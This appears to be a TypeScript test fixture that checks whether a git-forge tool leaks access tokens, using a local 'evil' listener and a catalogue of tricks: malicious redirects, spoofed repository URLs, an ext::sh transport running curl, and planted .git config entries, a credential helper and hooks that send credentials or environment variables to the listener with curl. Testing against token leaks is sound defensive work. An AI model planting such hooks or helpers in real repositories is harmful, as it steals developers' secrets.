import {appendFile, mkdir, writeFile} from 'node:fs/promises';
import {createServer, type IncomingHttpHeaders} from 'node:http';
import type {AddressInfo} from 'node:net';
import path from 'node:path';
import type {MemoryForge} from '../../src/testing/memory-forge.ts';

/** Somebody else's server, on another address of this machine, that answers everything in a way that invites more. */
export interface Listener extends AsyncDisposable {
  /** `http://127.0.0.2:4030` */
  readonly url: string;
  readonly host: string;
  /** Everything that came, with whatever could be a secret. */
  readonly heard: readonly {readonly path: string; readonly headers: IncomingHttpHeaders; readonly body: string}[];
}

export async function startListener(): Promise<Listener> {
  const heard: {path: string; headers: IncomingHttpHeaders; body: string}[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    heard.push({path: request.url ?? '', headers: request.headers, body});
    // As a server does that wants to be told who asks.
    response.writeHead(401, {'www-authenticate': 'Basic realm="forge"', 'content-type': 'application/json'});
    response.end('{"message": "who are you?"}');
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.2', resolve));
  const host = `127.0.0.2:${(server.address() as AddressInfo).port}`;
  return {
    url: `http://${host}`,
    host,
    heard,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise(resolve => server.close(resolve));
    },
  };
}

/** Requests that hold the token in any header, address or body, in clear or in Base64. */
export function leaksOf({heard}: Listener, token: string): string[] {
  const basic = (user: string): string => Buffer.from(`${user}:${token}`).toString('base64');
  const forms = [
    token,
    encodeURIComponent(token),
    basic('x-access-token'),
    basic('oauth2'),
    Buffer.from(token).toString('base64'),
  ];
  return heard.flatMap(({path: place, headers, body}) => {
    const text = JSON.stringify([place, headers, body]);
    const named = headers.authorization !== undefined || headers['private-token'] !== undefined;
    return named || forms.some(form => text.includes(form)) ? [`${place} ${JSON.stringify(headers)}`] : [];
  });
}

export interface Trick {
  readonly name: string;
  /** What the fleet file says of the repo, beside its path. */
  readonly repo?: (forge: MemoryForge, evil: Listener) => {readonly url?: string; readonly github?: string};
  /** What is done to the repo on this machine, at `clone`. */
  readonly plant?: (clone: string, evil: Listener) => Promise<void>;
  /** What the forge answers. */
  readonly arrange?: (forge: MemoryForge, evil: Listener) => void;
}

const redirect = (status: number, at: RegExp, place: (evil: Listener) => string): Trick => ({
  name: `${status} at ${at.source}`,
  arrange: (forge, evil) =>
    forge.fault(at, ...Array.from({length: 6}, () => ({status, headers: {location: place(evil)}}))),
});

const config = (name: string, text: (evil: Listener) => string): Trick => ({
  name: `.git/config: ${name}`,
  plant: (clone, evil) => appendFile(path.join(clone, '.git', 'config'), `\n${text(evil)}\n`),
});

const address = (name: string, repo: NonNullable<Trick['repo']>): Trick => ({name: `address: ${name}`, repo});

/** Ways in which a token could be sent elsewhere: by answers, addresses, and what stands in a repo. */
export const credentialTricks: readonly Trick[] = [
  ...[301, 302, 303, 307, 308].map(status =>
    redirect(status, /GET .*acme\/|GET .*acme%2F/, evil => `${evil.url}/api/v3/repos/acme/api`),
  ),
  ...[302, 307, 308].map(status => redirect(status, /POST .*(?:pulls|merge_requests)$/, evil => `${evil.url}/pulls`)),
  ...[301, 307].map(status =>
    redirect(status, /info\/refs/, evil => `${evil.url}/acme/api.git/info/refs?service=git-receive-pack`),
  ),
  redirect(307, /POST .*git-receive-pack/, evil => `${evil.url}/acme/api.git/git-receive-pack`),
  {
    name: 'addresses in an answer',
    arrange: (forge, evil) => {
      const body = JSON.stringify({
        ...{
          full_name: 'acme/api',
          html_url: evil.url,
          clone_url: `${evil.url}/acme/api.git`,
          fork: false,
          default_branch: 'main',
        },
        ...{
          path_with_namespace: 'acme/api',
          web_url: evil.url,
          http_url_to_repo: `${evil.url}/acme/api.git`,
          url: evil.url,
        },
      });
      forge.fault(/GET .*acme(?:\/|%2F)api$/, {status: 200, body});
    },
  },
  {
    name: 'a next page elsewhere',
    arrange: (forge, evil) =>
      forge.fault(/(?:pulls|merge_requests)\?/, {
        status: 200,
        body: '[]',
        headers: {link: `<${evil.url}/pulls?page=2>; rel="next"`},
      }),
  },
  {
    name: 'an interface elsewhere',
    arrange: (forge, evil) =>
      forge.fault(/GET .*acme/, {
        status: 200,
        headers: {'content-location': evil.url, refresh: `0; url=${evil.url}`},
        body: '{}',
      }),
  },
  address('the forge as a user name', (forge, evil) => ({url: `http://${forge.host.host}@${evil.host}/acme/api.git`})),
  address('the forge as user and password', (forge, evil) => ({
    url: `http://${forge.host.host.replace(':', ':')}@${evil.host}/acme/api`,
  })),
  address('a backslash', (forge, evil) => ({url: `http://${evil.host}\\@${forge.host.host}/acme/api.git`})),
  address('an escaped slash', (forge, evil) => ({url: `http://${evil.host}%2f@${forge.host.host}/acme/api.git`})),
  address('a fragment', (forge, evil) => ({url: `http://${evil.host}#@${forge.host.host}/acme/api.git`})),
  address('a query', (forge, evil) => ({url: `http://${evil.host}?@${forge.host.host}/acme/api.git`})),
  address('a line end', (forge, evil) => ({url: `http://${evil.host}/\r\nhost: ${forge.host.host}/acme/api.git`})),
  address('a tab', (forge, evil) => ({url: `http://${evil.host}\t/${forge.host.host}/acme/api.git`})),
  address('the forge as a folder', (forge, evil) => ({url: `http://${evil.host}/${forge.host.host}/acme/api.git`})),
  address('another port', (forge, evil) => ({
    url: `http://127.0.0.1:${evil.host.split(':')[1]}/acme/api.git`,
    github: `${forge.url}/acme/api`,
  })),
  address('elsewhere, with the web address of the forge', (forge, evil) => ({
    url: `${evil.url}/acme/api.git`,
    github: `${forge.url}/acme/api`,
  })),
  address('a path that climbs', (forge, evil) => ({url: `${forge.url}/../../${evil.host}/acme/api.git`})),
  address('another program', (_, evil) => ({url: `ext::sh -c curl ${evil.url}`})),
  address('letters that look alike', (_, evil) => ({
    url: `http://127。0。0。2:${evil.host.split(':')[1]}/acme/api.git`,
  })),
  config('insteadOf', evil => `[url "${evil.url}/"]\n\tinsteadOf = http://127.0.0.1`),
  config('pushInsteadOf', evil => `[url "${evil.url}/"]\n\tpushInsteadOf = http://127.0.0.1`),
  config(
    'a remote named by the address',
    evil => `[remote "origin"]\n\turl = ${evil.url}/acme/api.git\n\tpushurl = ${evil.url}/x.git`,
  ),
  config('a proxy', evil => `[http]\n\tproxy = ${evil.url}\n[remote "origin"]\n\tproxy = ${evil.url}`),
  config('a credential helper', evil => `[credential]\n\thelper = "!f() { curl -s ${evil.url} -d @-; }; f"`),
  config('headers for all', evil => `[http]\n\textraHeader = X: ${evil.url}\n\tfollowRedirects = true`),
  config('an included file', () => '[include]\n\tpath = ../evil.config'),
  config('LFS', evil => `[lfs]\n\turl = ${evil.url}/lfs\n\tpushurl = ${evil.url}/lfs`),
  {
    name: 'submodules and LFS in the work tree',
    plant: async (clone, evil) => {
      await writeFile(path.join(clone, '.gitmodules'), `[submodule "x"]\n\tpath = x\n\turl = ${evil.url}/x.git\n`);
      await writeFile(path.join(clone, '.lfsconfig'), `[lfs]\n\turl = ${evil.url}/lfs\n`);
      await writeFile(path.join(clone, '.gitattributes'), '* filter=lfs diff=lfs merge=lfs\n');
    },
  },
  {
    name: 'hooks that push on',
    plant: async (clone, evil) => {
      await mkdir(path.join(clone, '.git', 'hooks-x'));
      for (const hook of ['pre-push', 'reference-transaction', 'post-commit', 'pre-auto-gc'])
        await writeFile(path.join(clone, '.git', 'hooks-x', hook), `#!/bin/sh\ncurl -s ${evil.url} -d "$(env)"\n`, {
          mode: 0o755,
        });
      await appendFile(path.join(clone, '.git', 'config'), '\n[core]\n\thooksPath = .git/hooks-x\n');
    },
  },
];
